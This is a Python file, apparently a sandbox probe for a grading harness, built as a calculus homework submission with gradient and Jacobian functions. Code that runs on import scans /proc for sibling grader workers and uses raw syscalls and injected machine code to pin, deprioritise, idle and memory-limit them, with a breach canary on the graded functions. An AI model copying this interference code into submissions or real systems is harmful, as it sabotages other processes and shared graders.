"""probe_a case rw_sched_native (reach_workers, native): hw2_compgraph calculus.py.

As rw_sched_py through raw sched_setaffinity/setpriority/sched_setscheduler/prlimit64 syscall
numbers. seccomp kills on "what workers graded at the same time could use to reach each other or to
hide memory from memory_mb: System V shared memory, queues and semaphores, memfd, inotify and
fanotify watches, file locks (flock, fcntl locks), and scheduling or priority changes to any
process but itself" (scheduling or priority changes to any process but itself): 14..20. Victims are
checked by the harness; this entry is the attacker's own row. If a forbidden step ever succeeds the
case raises in every graded function (breach canary), so a silent breach shows as lost points.
"""

import numpy as np

# ---- probe_a prelude: attack bookkeeping, never raises ----
import os as _pa_os
import sys as _pa_sys
import time as _pa_time

_PA_CASE = 'rw_sched_native'
_PA_LOG = []
_PA_BREACHES = []
_PA_KEEP = []


def _pa_note(label, status, detail=""):
    try:
        _PA_LOG.append((round(_pa_time.monotonic(), 3), str(label), status, str(detail)[:300]))
    except BaseException:
        pass


def _pa_breach(what):
    """A step the documentation says is refused has succeeded."""
    _PA_BREACHES.append(str(what))
    _pa_note("BREACH", "breach", what)
    try:
        fh = open(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"), "a")
        try:
            fh.write("%s: %s\n" % (_PA_CASE, what))
        finally:
            fh.close()
    except BaseException:
        pass


def _pa_spoiled():
    if _PA_BREACHES:
        return True
    try:
        for _n, _m in list(_pa_sys.modules.items()):
            if _n.endswith(("calculus", "compgraph")) and getattr(_m, "_PA_BREACHES", None):
                return True
    except BaseException:
        pass
    try:
        return _pa_os.path.exists(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"))
    except BaseException:
        return False


def _pa_try(label, fn, *args, **kwargs):
    """Run one attack step; a refusal (any exception) is logged and swallowed."""
    try:
        r = fn(*args, **kwargs)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return e
    _pa_note(label, "ok", repr(r)[:200])
    return r


def _pa_ok(r):
    return not isinstance(r, BaseException)


_PA_TMP_ROOTS = ("/tmp", "/var/tmp", "/dev/shm")


def _pa_safe_dir(p):
    """True only for folders strictly inside /tmp, /var/tmp or /dev/shm (grader-made
    temporary folders): the only places a destructive step is ever aimed at."""
    try:
        rp = _pa_os.path.realpath(p)
    except BaseException:
        return False
    for root in _PA_TMP_ROOTS:
        if rp.startswith(root + "/"):
            rest = rp[len(root) + 1:]
            first = rest.split("/")[0]
            if rest and not first.startswith(("probe_brief", "bash_jobs", ".X11", "systemd")):
                return True
    return False


def _pa_deadline(seconds):
    end = _pa_time.monotonic() + seconds
    return lambda: _pa_time.monotonic() < end

def _pa_read(path, n=1 << 16):
    with open(path, "rb") as fh:
        return fh.read(n)


def _pa_ppid_of(pid):
    s = _pa_read("/proc/%d/stat" % pid)
    return int(s[s.rindex(b")") + 2:].split()[1])


def _pa_ancestors():
    anc = {_pa_os.getppid()}
    pid = _pa_os.getpid()
    for _ in range(64):
        try:
            pid = _pa_ppid_of(pid)
        except BaseException:
            break
        if pid <= 1:
            break
        anc.add(pid)
    return anc


def _pa_proc_pids():
    return [int(n) for n in _pa_os.listdir("/proc") if n.isdigit()]


def _pa_sibling_workers():
    """Grader processes (cmdline contains "grader") whose parent is our parent or another
    grader process; never ourselves or an ancestor.  Raises if /proc cannot be listed."""
    me, ppid = _pa_os.getpid(), _pa_os.getppid()
    anc = _pa_ancestors()
    out = set()
    for pid in _pa_proc_pids():
        if pid == me or pid in anc or pid <= 1:
            continue
        try:
            if b"grader" not in _pa_read("/proc/%d/cmdline" % pid):
                continue
            pp = _pa_ppid_of(pid)
            if pp == ppid or (pp > 1 and b"grader" in _pa_read("/proc/%d/cmdline" % pp)):
                out.add(pid)
        except BaseException:
            continue
    return out


def _pa_is_grader(pid):
    try:
        return b"grader" in _pa_read("/proc/%d/cmdline" % pid)
    except BaseException:
        return False

_PA_SC = []


def _pa_s64(v):
    v = int(v) & 0xFFFFFFFFFFFFFFFF
    return v - (1 << 64) if v >> 63 else v


def _pa_sc():
    """A callable sc(nr, *args) -> raw result (negative errno on failure)."""
    if _PA_SC:
        if _PA_SC[0] is None:
            raise RuntimeError("probe_a: no native route")
        return _PA_SC[0]
    import ctypes

    def from_fn(fn, label, with_errno):
        fn.restype = ctypes.c_long

        def sc(nr, *args):
            r = fn(ctypes.c_long(_pa_s64(nr)), *[ctypes.c_long(_pa_s64(a)) for a in args])
            if r == -1 and with_errno:
                return -ctypes.get_errno()
            return r
        sc.route = label
        return sc

    # PyDLL / PYFUNCTYPE keep the GIL during the call, so a clone() child is never left
    # waiting for a GIL that some other thread held at the moment of the fork.
    for name in (None, "libc.so.6"):
        try:
            lib = ctypes.PyDLL(name, use_errno=True)
            sc = from_fn(lib.syscall, "PyDLL(%r).syscall" % (name,), True)
            _PA_SC.append(sc)
            _pa_note("native route", "ok", sc.route)
            return sc
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            _pa_note("native CDLL(%r)" % (name,), "refused", repr(e))
    try:
        sc = from_fn(ctypes.pythonapi.syscall, "pythonapi.syscall", False)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native pythonapi", "refused", repr(e))
    try:
        import mmap
        code = bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3")
        buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        buf.write(code)
        cbuf = ctypes.c_char.from_buffer(buf)
        raw = ctypes.PYFUNCTYPE(ctypes.c_long, *([ctypes.c_long] * 7))(ctypes.addressof(cbuf))

        def sc(nr, *args):
            a = [_pa_s64(x) for x in args] + [0] * (6 - len(args))
            return raw(_pa_s64(nr), *a)
        sc.route = "machine code"
        sc.keep = (buf, cbuf, raw)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native machine code", "refused", repr(e))
    _PA_SC.append(None)
    raise RuntimeError("probe_a: no native route")


def _pa_scall(label, nr, *args, mode="kill"):
    """One raw syscall.  mode "kill": the docs say seccomp kills the worker on it, so
    returning at all is a breach; "success": only a result >= 0 is a breach; "none"."""
    try:
        sc = _pa_sc()
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "no native route", repr(e))
        return None
    try:
        r = sc(nr, *args)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return None
    _pa_note(label, "returned", r)
    if mode == "kill":
        _pa_breach("%s returned %r (%s): the seccomp filter did not kill the worker" % (label, r, sc.route))
    elif mode == "success" and r is not None and r >= 0:
        _pa_breach("%s succeeded with %r (%s)" % (label, r, sc.route))
    return r


def _pa_cbuf(data_or_size):
    import ctypes
    if isinstance(data_or_size, int):
        b = ctypes.create_string_buffer(data_or_size)
    else:
        b = ctypes.create_string_buffer(bytes(data_or_size), len(data_or_size) + 1)
    _PA_KEEP.append(b)
    return b, ctypes.addressof(b)

# --- probe_a honest code begin ---
def grad_f(x, y):
    """Gradient [df/dx, df/dy] of f(x, y) = (2x + 3y)^2, shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    t = 2.0 * (2.0 * x + 3.0 * y)
    return np.array([2.0 * t, 3.0 * t])


def jacobian_F(x, y):
    """Jacobian of F(x, y) = [x^2 + 2y, 3x + 4y^2], shape (2, 2)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    return np.array([[2.0 * x, 2.0], [3.0, 8.0 * y]])


def G(x):
    """G(x) = [x, x^2], shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    return np.array([x, x * x])


def jacobian_FG(x):
    """D(F o G)(x) = DF(G(x)) . DG(x), shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    u, w = x, x * x
    DF = np.array([[2.0 * u, 2.0], [3.0, 8.0 * w]])
    DG = np.array([1.0, 2.0 * x])
    return DF @ DG


def _scalar(value):
    a = np.asarray(value, dtype=float)
    if a.size != 1:
        raise ValueError("f must return a scalar, got shape %r" % (a.shape,))
    return float(a.reshape(-1)[0])


def numerical_gradient(f, x, eps=1e-6):
    """Central-difference gradient of a scalar function f at the array x (same shape as x)."""
    x = np.array(x, dtype=float)
    g = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        xp = x.copy()
        xm = x.copy()
        xp[idx] += eps
        xm[idx] -= eps
        g[idx] = (_scalar(f(xp)) - _scalar(f(xm))) / (2.0 * eps)
    return g


def numerical_jacobian(F, x, eps=1e-6):
    """Central-difference Jacobian of a vector function F at the 1-D array x: (len(F(x)), len(x))."""
    x = np.array(x, dtype=float).reshape(-1)
    m = np.asarray(F(x.copy()), dtype=float).reshape(-1).size
    J = np.zeros((m, x.size))
    for k in range(x.size):
        xp = x.copy()
        xm = x.copy()
        xp[k] += eps
        xm[k] -= eps
        J[:, k] = (np.asarray(F(xp), dtype=float).reshape(-1) - np.asarray(F(xm), dtype=float).reshape(-1)) / (2.0 * eps)
    return J
# --- probe_a honest code end ---


# ---- probe_a attack ----
def _pa_same_on_parent():
    ppid = _pa_os.getppid()
    if ppid <= 1:
        return
    b, a = _pa_cbuf(128)
    n = _pa_scall("sched_getaffinity(ppid)", 204, ppid, 128, a, mode="none")
    if n is not None and n > 0:
        _pa_scall("sched_setaffinity(ppid, same)", 203, ppid, n, a, mode="kill")
    r = _pa_scall("getpriority(ppid)", 140, 0, ppid, mode="none")
    if r is not None and r > 0:
        _pa_scall("setpriority(ppid, same)", 141, 0, ppid, 20 - r, mode="kill")
    pol = _pa_scall("sched_getscheduler(ppid)", 145, ppid, mode="none")
    pb, pa = _pa_cbuf(64)
    if pol is not None and pol >= 0 and _pa_scall("sched_getparam(ppid)", 143, ppid, pa, mode="none") == 0:
        _pa_scall("sched_setscheduler(ppid, same)", 144, ppid, pol, pa, mode="kill")
    lb, la = _pa_cbuf(16)
    if _pa_scall("prlimit64(ppid) get", 302, ppid, 7, 0, la, mode="none") == 0:
        _pa_scall("prlimit64(ppid) set same", 302, ppid, 7, la, 0, mode="none")


def _pa_harm(pid):
    mb, ma = _pa_cbuf(b"\x01" + b"\0" * 127)
    _pa_scall("sched_setaffinity(%d, cpu0)" % pid, 203, pid, 128, ma, mode="kill")
    _pa_scall("setpriority(%d, 19)" % pid, 141, 0, pid, 19, mode="kill")
    zb, za = _pa_cbuf(64)
    _pa_scall("sched_setscheduler(%d, SCHED_IDLE)" % pid, 144, pid, 5, za, mode="kill")
    lb, la = _pa_cbuf((32 << 20).to_bytes(8, "little") * 2)
    _pa_scall("prlimit64(%d, RLIMIT_AS, 32 MB)" % pid, 302, pid, 9, la, 0, mode="success")


def _pa_attack():
    _pa_same_on_parent()
    done = set()
    alive = _pa_deadline(3.0)
    while alive():
        sib = _pa_try("scan /proc for sibling workers", _pa_sibling_workers)
        if not _pa_ok(sib):
            break
        for pid in sorted(sib - done):
            done.add(pid)
            _pa_harm(pid)
        _pa_time.sleep(0.2)


_pa_try("attack", _pa_attack)


# ---- probe_a breach canary: a forbidden step that succeeded costs the points ----
def _pa_guard(names):
    import functools
    g = globals()
    for n in names:
        f = g.get(n)
        if not callable(f):
            continue

        def make(f, n):
            @functools.wraps(f)
            def wrapper(*args, **kwargs):
                if _pa_spoiled():
                    raise RuntimeError("probe_a breach canary (%s): a step the docs say is refused "
                                       "succeeded: %s" % (_PA_CASE, "; ".join(_PA_BREACHES) or "see probe_a_BREACH"))
                return f(*args, **kwargs)
            return wrapper
        g[n] = make(f, n)


_pa_guard(['grad_f', 'jacobian_F', 'G', 'jacobian_FG', 'numerical_gradient', 'numerical_jacobian'])
